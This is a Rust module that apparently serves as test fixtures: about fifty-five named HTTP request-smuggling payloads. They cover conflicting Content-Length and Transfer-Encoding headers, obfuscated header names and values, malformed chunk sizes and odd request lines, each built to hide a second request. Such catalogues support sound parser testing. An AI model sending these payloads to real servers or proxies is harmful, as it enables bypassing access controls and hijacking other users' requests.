//! Requests that two parsers may read differently. In each, `{smuggled}` is a whole second request that stands where only
//! bytes of a body, or nothing, may stand, `{len}` its length, and `{hex}` the same as a chunk says it.
//!
//! Nothing here is a pipelined request: whoever sees the second one has been deceived.

/// A request that hides nothing.
pub(super) const OPEN: &str = "GET /payload HTTP/1.1\r\nHost: x\r\n\r\n";

/// What is hidden.
pub(super) const SMUGGLED: &str = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n";

/// A name and the bytes.
pub(super) struct Payload {
    pub(super) name: &'static str,
    text: &'static str,
}

impl Payload {
    pub(super) fn bytes(&self) -> Vec<u8> {
        let len = SMUGGLED.len();
        let text = self.text.replace("{smuggled}", SMUGGLED);
        let text = text.replace("{len}", &len.to_string());
        text.replace("{hex}", &format!("{len:x}")).into_bytes()
    }
}

const fn payload(name: &'static str, text: &'static str) -> Payload {
    Payload { name, text }
}

macro_rules! post {
    ($fields:literal, $body:literal) => {
        concat!(
            "POST /payload HTTP/1.1\r\nHost: x\r\n",
            $fields,
            "\r\n",
            $body
        )
    };
}

/// The end of a chunked body with the second request behind it, as a parser that goes by a length sees it.
macro_rules! coding {
    ($fields:literal) => {
        post!($fields, "0\r\n\r\n{smuggled}")
    };
}

#[rustfmt::skip]
pub(super) const PAYLOADS: &[Payload] = &[
    payload("CL and TE", coding!("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n")),
    payload("TE and CL", coding!("Transfer-Encoding: chunked\r\nContent-Length: 100\r\n")),
    payload("TE and CL 0", post!("Transfer-Encoding: chunked\r\nContent-Length: 0\r\n", "0\r\n\r\n{smuggled}")),
    payload("blank before the colon of TE", coding!("Content-Length: 5\r\nTransfer-Encoding : chunked\r\n")),
    payload("tab before the colon of TE", coding!("Content-Length: 5\r\nTransfer-Encoding\t: chunked\r\n")),
    payload("blank before the colon of CL", post!("Content-Length : {len}\r\nContent-Length: 0\r\n", "{smuggled}")),
    payload("vertical tab before chunked", coding!("Content-Length: 5\r\nTransfer-Encoding: \u{b}chunked\r\n")),
    payload("form feed behind chunked", coding!("Content-Length: 5\r\nTransfer-Encoding: chunked\u{c}\r\n")),
    payload("quoted chunked", coding!("Content-Length: 5\r\nTransfer-Encoding: \"chunked\"\r\n")),
    payload("xchunked", coding!("Content-Length: 5\r\nTransfer-Encoding: xchunked\r\n")),
    payload("chunked, identity", coding!("Content-Length: 5\r\nTransfer-Encoding: chunked, identity\r\n")),
    payload("identity, chunked", coding!("Content-Length: 5\r\nTransfer-Encoding: identity, chunked\r\n")),
    payload("two TE", coding!("Content-Length: 5\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n")),
    payload("two TE, the first unknown", coding!("Content-Length: 5\r\nTransfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n")),
    payload("folded TE", coding!("Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n")),
    payload("TE in a folded line", coding!("Content-Length: 5\r\nX: y\r\n Transfer-Encoding: chunked\r\n")),
    payload("TE behind a bare CR", coding!("Content-Length: 5\r\nX: y\rTransfer-Encoding: chunked\r\n")),
    payload("TE behind a NUL", coding!("Content-Length: 5\r\nX: y\0\r\nTransfer-Encoding: chunked\r\n")),
    payload("TE with a NUL in its name", coding!("Content-Length: 5\r\nTransfer-\0Encoding: chunked\r\n")),
    payload("TE with an underscore", post!("Content-Length: {len}\r\nTransfer_Encoding: chunked\r\n", "{smuggled}")),
    payload("TE of a version 1.0", "POST /payload HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
    payload("a first line that is folded", "POST /payload HTTP/1.1\r\n Transfer-Encoding: chunked\r\nHost: x\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{smuggled}"),
    payload("two different CL", post!("Content-Length: 0\r\nContent-Length: {len}\r\n", "{smuggled}")),
    payload("two different CL, the longer first", post!("Content-Length: {len}\r\nContent-Length: 0\r\n", "{smuggled}")),
    payload("a list of CL", post!("Content-Length: 0, {len}\r\n", "{smuggled}")),
    payload("CL with a sign", post!("Content-Length: +0\r\n", "{smuggled}")),
    payload("negative CL", post!("Content-Length: -1\r\n", "{smuggled}")),
    payload("hexadecimal CL", post!("Content-Length: 0x0\r\n", "{smuggled}")),
    payload("CL with a blank inside", post!("Content-Length: 0 {len}\r\n", "{smuggled}")),
    payload("CL with an underscore", post!("Content_Length: {len}\r\nContent-Length: {len}\r\n", "{smuggled}")),
    payload("CL that overflows", post!("Content-Length: 18446744073709551616\r\n", "{smuggled}")),
    payload("empty CL", post!("Content-Length:\r\n", "{smuggled}")),
    payload("CL listed by Connection", post!("Connection: keep-alive, Content-Length\r\nContent-Length: {len}\r\n", "{smuggled}")),
    payload("TE listed by Connection", post!("Connection: keep-alive, Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n", "{hex}\r\n{smuggled}\r\n0\r\n\r\n")),
    payload("a GET with a body", "GET /payload HTTP/1.1\r\nHost: x\r\nContent-Length: {len}\r\n\r\n{smuggled}"),
    payload("a HEAD with a body", "HEAD /payload HTTP/1.1\r\nHost: x\r\nContent-Length: {len}\r\n\r\n{smuggled}"),
    payload("a body where 100 is expected", post!("Expect: 100-continue\r\nContent-Length: {len}\r\n", "{smuggled}")),
    payload("a body where something else is expected", post!("Expect: x 100-continue\r\nContent-Length: {len}\r\n", "{smuggled}")),
    payload("chunk size with 0x", post!("Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n{smuggled}")),
    payload("chunk size with a sign", post!("Transfer-Encoding: chunked\r\n", "+0\r\n\r\n{smuggled}")),
    payload("negative chunk size", post!("Transfer-Encoding: chunked\r\n", "-1\r\n\r\n{smuggled}")),
    payload("chunk size that overflows 64 bits", post!("Transfer-Encoding: chunked\r\n", "10000000000000000\r\n{smuggled}")),
    payload("chunk size that overflows 32 bits", post!("Transfer-Encoding: chunked\r\n", "100000000\r\n{smuggled}")),
    payload("blank before a chunk size", post!("Transfer-Encoding: chunked\r\n", " 0\r\n\r\n{smuggled}")),
    payload("a chunk ended by LF", post!("Transfer-Encoding: chunked\r\n", "1\r\na\n0\r\n\r\n{smuggled}")),
    payload("a chunk size ended by LF", post!("Transfer-Encoding: chunked\r\n", "1\na\r\n0\r\n\r\n{smuggled}")),
    payload("a chunk size ended by CR", post!("Transfer-Encoding: chunked\r\n", "1\ra\r\n0\r\n\r\n{smuggled}")),
    payload("a chunk longer than it says", post!("Transfer-Encoding: chunked\r\n", "1\r\nabc\r\n0\r\n\r\n{smuggled}")),
    payload("an LF in a chunk extension", post!("Transfer-Encoding: chunked\r\n", "2;\nxx\r\n0\r\n\r\n{smuggled}")),
    payload("a trailer without a colon", post!("Transfer-Encoding: chunked\r\n", "0\r\nx\r\n y\r\n\r\n{smuggled}")),
    payload("line ends in the target", "GET /payload\r\nX: y\r\nContent-Length: {len} HTTP/1.1\r\nHost: x\r\n\r\n{smuggled}"),
    payload("encoded line ends in the target", "GET /payload%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"),
    payload("a tab in the request line", "GET\t/payload\tHTTP/1.1\r\nHost: x\r\nContent-Length: {len}\r\n\r\n{smuggled}"),
    payload("a second version in the request line", "GET /payload HTTP/1.1 HTTP/1.0\r\nHost: x\r\nContent-Length: {len}\r\n\r\n{smuggled}"),
    payload("a NUL in the target", "GET /payload\0/x HTTP/1.1\r\nHost: x\r\nContent-Length: {len}\r\n\r\n{smuggled}"),
];
